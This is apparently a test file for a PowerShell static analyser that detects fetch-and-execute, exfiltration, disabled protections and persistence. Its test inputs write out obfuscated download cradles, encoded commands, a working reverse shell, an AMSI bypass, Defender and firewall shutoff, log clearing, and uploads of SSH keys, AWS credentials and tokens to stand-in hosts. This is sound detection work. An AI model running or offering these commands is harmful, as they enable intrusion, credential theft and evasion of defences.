import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Flow } from '../../../server/src/scripts/model';
import { analyse } from '../facts';
import { soup, wellFormed } from '../soup';

const flows = (text: string): string[] =>
	analyse('powershell', text).flows.map(({ source, sink }: Flow) => {
		const from =
			'host' in source ? source.host : 'path' in source ? source.path : 'name' in source ? source.name : '';
		const to = 'host' in sink ? sink.host : 'by' in sink ? sink.by : '';
		return `${source.kind} ${from ?? '?'} → ${sink.kind} ${to ?? '?'}`;
	});

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const FETCH = 'iwr http://198.51.100.7/a.ps1 | iex';

describe('PowerShell: what is fetched and run', () => {
	const run = 'network cdn.example → execution Invoke-Expression';
	for (const [text, expected] of [
		['iwr https://cdn.example/a.ps1 | iex', run],
		['Invoke-Expression (irm https://cdn.example/a.ps1)', run],
		['I`E`X (New-Object Net.WebClient).DownloadString("http://cdn.example/x")', run],
		["& ('i'+'ex') ((New-Object System.Net.WebClient).DownloadString('http://cdn.example/x'))", run],
		["&(\"{1}{0}\" -f 'ex','i') (irm cdn.example/a)", run],
		['&(-join([char[]](105,101,120))) (irm https://cdn.example/a)', run],
		[
			"&('xei'[-1..-3] -join '') (irm https://cdn.example/a)",
			'network cdn.example → execution Invoke-Expression',
		],
		["&($ShellId[1]+$ShellId[13]+'x') (irm https://cdn.example/a)", run],
		["&('iZZex'.Replace('ZZ','')) (irm ('https://cdn.ex' + 'ample/a'))", run],
		['$s = irm https://cdn.example/a\n# a comment\nif ($true) { iex $s }', run],
		['function go($u) { iex (irm https://cdn.example/a) }\ngo', run],
		[
			"$u = 'https://cdn.example/a.exe'; iwr $u -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
			'network cdn.example → execution Start-Process',
		],
		[
			'certutil -urlcache -f http://cdn.example/a.exe C:\\Temp\\a.exe; C:\\Temp\\a.exe',
			'network cdn.example → execution Start-Process',
		],
		[
			'Start-BitsTransfer https://cdn.example/a.exe ~\\a.exe; & ~\\a.exe',
			'network cdn.example → execution Start-Process',
		],
		['mshta http://cdn.example/a.hta', 'network cdn.example → execution mshta'],
		[
			"[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://cdn.example/a'))",
			'network cdn.example → execution Assembly.Load',
		],
		['nslookup -q=txt cdn.example 198.51.100.1 | Select-String x | % { $_.Line } | iex', run],
	] as const) {
		it(text.slice(0, 80), () => assert.ok(flows(text).includes(expected), flows(text).join('\n')));
	}

	it('an encoded command is decoded and read again', () => {
		for (const text of [
			`powershell -NoP -W Hidden -Enc ${encoded(FETCH)}`,
			`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded(FETCH)}')))`,
			`Start-Process powershell -ArgumentList '-enc ${encoded(FETCH)}'`,
		]) {
			const found = flows(text);
			assert.ok(found.includes('network 198.51.100.7 → execution Invoke-Expression'), text);
			assert.ok(
				found.some(flow => flow.startsWith('encoded')),
				text,
			);
		}
	});

	it('a shell that somebody elsewhere types into', () => {
		const text =
			"$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};" +
			'while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);}';
		assert.ok(flows(text).includes('network 198.51.100.9 → execution Invoke-Expression'));
	});
});

describe('PowerShell: what leaves', () => {
	for (const [text, expected] of [
		[
			'$k = Get-Content $env:USERPROFILE\\.ssh\\id_rsa -Raw; irm https://drop.example/u -Method Post -Body $k',
			'secret-file ~/.ssh/id_rsa → network drop.example',
		],
		[
			'$e = Get-ChildItem env: | ConvertTo-Json; Invoke-RestMethod https://drop.example -Method POST -Body $e',
			'environment ? → network drop.example',
		],
		[
			"$p=@{Uri='https://drop.example/u';Method='Post';Body=(gc ~/.aws/credentials)}; irm @p",
			'secret-file ~/.aws/credentials → network drop.example',
		],
		[
			'(New-Object Net.WebClient).UploadFile(\'https://drop.example/u\', "$HOME\\.ssh\\id_rsa")',
			'secret-file ~/.ssh/id_rsa → network drop.example',
		],
		['iwr "https://drop.example/?t=$env:GITHUB_TOKEN"', 'environment GITHUB_TOKEN → network drop.example'],
	] as const) {
		it(text.slice(0, 80), () => assert.ok(flows(text).includes(expected), flows(text).join('\n')));
	}

	it('what is its own business is no flow', () => {
		assert.deepEqual(flows('Get-ChildItem ./src -Recurse | Select-Object Name | Out-File list.txt'), []);
		assert.deepEqual(flows("$r = irm 'https://api.example/v1/items'; $r.items | Format-Table"), []);
		assert.deepEqual(flows('Write-Host "iwr https://cdn.example/a | iex"'), []);
		assert.deepEqual(flows('# iwr https://cdn.example/a | iex\n<# irm https://cdn.example | iex #>'), []);
	});
});

describe('PowerShell: protections and persistence', () => {
	const kinds = (text: string) =>
		analyse('powershell', text).uses.flatMap(use =>
			use.kind === 'safety-off' ? [use.what] : use.kind === 'persistence' ? [use.mechanism] : [],
		);
	for (const [text, expected] of [
		['Set-MpPreference -DisableRealtimeMonitoring $true', 'defender'],
		['Add-MpPreference -ExclusionPath C:\\', 'defender'],
		[
			"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
			'defender',
		],
		['Set-ExecutionPolicy Bypass -Scope Process -Force', 'script-policy'],
		['netsh advfirewall set allprofiles state off', 'firewall'],
		['wevtutil cl Security', 'system-logging'],
		['[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}', 'tls-verification'],
		[
			"Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x",
			'registry-run-key',
		],
		['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x', 'registry-run-key'],
		['schtasks /create /tn update /tr x /sc minute', 'scheduled-task'],
		['Add-Content $PROFILE "x"', 'rc-file'],
	] as const) {
		it(text.slice(0, 80), () => assert.ok(kinds(text).includes(expected), kinds(text).join(' ')));
	}

	it('a protection switched back on is none switched off', () => {
		assert.deepEqual(kinds('Set-MpPreference -DisableRealtimeMonitoring $false'), []);
	});
});

describe('PowerShell: any text', () => {
	const WORDS = [
		...'( ) { } [ ] @{ @( $( " \' ` | ; , = . :: & + - * % ! < > #'.split(' '),
		'<#',
		'#>',
		'@"\n',
		'\n"@',
		'\n',
		'$x',
		'$env:A',
		'-f',
		'-join',
		'-replace',
		'[char]',
		'iex',
		'iwr',
		'if',
		'else',
		'function f',
		'foreach',
		'in',
		'try',
		'catch',
		'https://a.example/x',
		"'a'",
		'"b$x"',
		'1..9',
		'| %',
		'powershell -c',
		'cmd /c',
		'New-Object',
		'-Body',
		'\ud800',
	];

	it('is analysed without an error, with ranges inside it, the same way each time', () => {
		fc.assert(
			fc.property(soup(WORDS), text => {
				const facts = analyse('powershell', text);
				assert.ok(wellFormed(facts, text.length));
				assert.ok(
					facts.unparsed.every(part => !part.reason.includes('failed')),
					JSON.stringify(facts.unparsed),
				);
				assert.deepEqual(analyse('powershell', text), facts);
			}),
			{ numRuns: 1000 },
		);
	});

	it('costs no more than the text is long', () => {
		const costs = (text: string) => {
			const before = process.cpuUsage();
			analyse('powershell', text);
			return process.cpuUsage(before).user / 1000;
		};
		for (const part of [
			'(',
			'"$(',
			'@{a=',
			'[char]',
			'`',
			"'x'+",
			'{',
			'$a.b(',
			'-join ',
			'<#',
			'"',
			"@'\n",
			'$a=$a+$a;',
			'a|',
			'$x[',
			',',
			'-x ',
		]) {
			const text = part.repeat(Math.ceil(100_000 / part.length));
			assert.ok(costs(text) < 2_000, `${JSON.stringify(part)} ${costs(text)} ms`);
		}
		assert.ok(costs('1..2000|%{'.repeat(40)) < 2_000);
	});
});
